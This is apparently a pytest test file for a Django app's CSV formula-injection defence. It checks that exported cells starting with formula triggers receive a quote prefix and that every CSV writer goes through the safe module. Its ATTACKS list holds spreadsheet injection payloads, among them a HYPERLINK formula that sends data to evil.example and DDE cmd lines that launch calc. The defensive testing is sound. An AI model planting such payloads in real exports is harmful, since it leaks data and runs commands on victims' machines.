"""CSV formula injection (issue 11, point 8): no cell of any CSV Tandem writes starts with
= + - @, a tab or a carriage return; such cells get OWASP's single-quote prefix."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

import tandem
from tandem.core import csvsafe
from tests.applications.factories import ApplicationFactory
from tests.cohorts.factories import CohortFactory
from tests.members.factories import OrganizationFactory

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.unit
@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_are_prefixed_with_a_quote(value):
    assert csvsafe.safe_cell(value) == "'" + value


@pytest.mark.unit
@pytest.mark.parametrize(
    "value", ["Amina Otieno", "", " =not at the start", "a=b", "O'Brien", "'=already", 5, -3, None]
)
def test_other_cells_are_unchanged(value):
    assert csvsafe.safe_cell(value) == value


@pytest.mark.unit
def test_the_writer_neutralises_every_row():
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer)
    writer.writerow(["=1+1", "plain", -1])
    writer.writerows([["@x", "+y"], ["-z", "\tw"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'=1+1", "plain", "-1"], ["'@x", "'+y"], ["'-z", "'\tw"]]


@pytest.mark.django_db
@pytest.mark.integration
@pytest.mark.parametrize("attack", ATTACKS)
def test_the_applications_export_neutralises_typed_formulas(coordinator_client, attack):
    cohort = CohortFactory()
    fields = ["full_name", "job_title", "goals", "challenges", "project_idea", "decision_note"]
    ApplicationFactory(
        cohort=cohort,
        organization=OrganizationFactory(name=attack + " Consortium"),
        **{field: attack for field in fields},
    )
    response = coordinator_client.get(reverse("applications:export", args=[cohort.slug]))
    (header, row) = list(csv.reader(io.StringIO(response.getvalue().decode()), strict=True))
    cells = dict(zip(header, row, strict=True))
    for field in fields:
        assert cells[field] == "'" + attack, field
    assert cells["organization"] == "'" + attack + " Consortium"
    assert not [c for c in row if c.startswith(csvsafe.FORMULA_TRIGGERS)]


@pytest.mark.django_db
@pytest.mark.integration
def test_the_json_api_keeps_values_exactly(coordinator_client):
    """JSON is not opened by spreadsheets: the API returns what was typed."""
    app = ApplicationFactory(full_name="=1+1")
    rows = coordinator_client.get(f"/api/cohorts/{app.cohort.slug}/applications").json()["items"]
    assert rows[0]["full_name"] == "=1+1"


@pytest.mark.unit
def test_no_module_writes_csv_without_the_safe_writer():
    """Every CSV the app writes goes through tandem.core.csvsafe: a new export cannot forget."""
    root = Path(tandem.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "csvsafe.py" and path.parent.name == "core":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ) or (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and {a.name for a in node.names} & {"writer", "DictWriter"}
            ):
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert not offenders, f"write CSV with tandem.core.csvsafe.writer: {offenders}"
